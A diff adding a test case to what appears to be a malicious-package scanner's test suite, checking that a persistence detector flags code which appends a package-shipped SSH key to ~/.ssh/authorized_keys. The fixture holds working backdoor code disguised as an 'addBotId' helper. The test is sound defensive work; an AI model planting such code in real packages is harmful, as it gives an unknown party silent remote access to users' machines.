@@ -1227,6 +1227,23 @@ describe('persistence', () => {
     expect(['high', 'critical']).toContain(r.level);
   });
 
+  it('a key the package ships, added to authorized_keys from any function, is high; a tool adding its user\'s key is not', () => {
+    const addKeys = (keys: string) => `const fs = require('fs'); const os = require('os'); const path = require('path');
+${keys}
+async function addBotId() {
+  const file = path.join(os.homedir(), '.ssh', 'authorized_keys');
+  const current = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : '';
+  for (const key of publicKeys) if (!current.includes(key)) fs.appendFileSync(file, '\\n' + key + '\\n');
+}
+module.exports = { addBotId };
+`;
+    const shipped = scan({ 'src/utils.js': addKeys("const publicKeys = ['ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIN0f3B8kq2pQv7m1Zc0x8Yt5sLw9Hh4aD2eR6uJ1oKpZ deploy@relay'];") }, { main: 'index.js' });
+    expect(shipped.findings.find((f) => f.detector === 'persistence')?.data).toMatchObject({ target: '~/.ssh/authorized_keys' });
+    expect(['high', 'critical']).toContain(shipped.level);
+    const users = scan({ 'src/utils.js': addKeys("const publicKeys = process.argv.slice(2);") }, { main: 'index.js' });
+    expect(users.findings.find((f) => f.detector === 'persistence')?.weight ?? 0).toBeLessThan(50);
+  });
+
   it('an install hook that reads a sibling package\'s code and writes it back patched is high; writing its own files is not', () => {
     const patched = scan({
       'index.js': `const fs = require('fs'); const path = require('path');
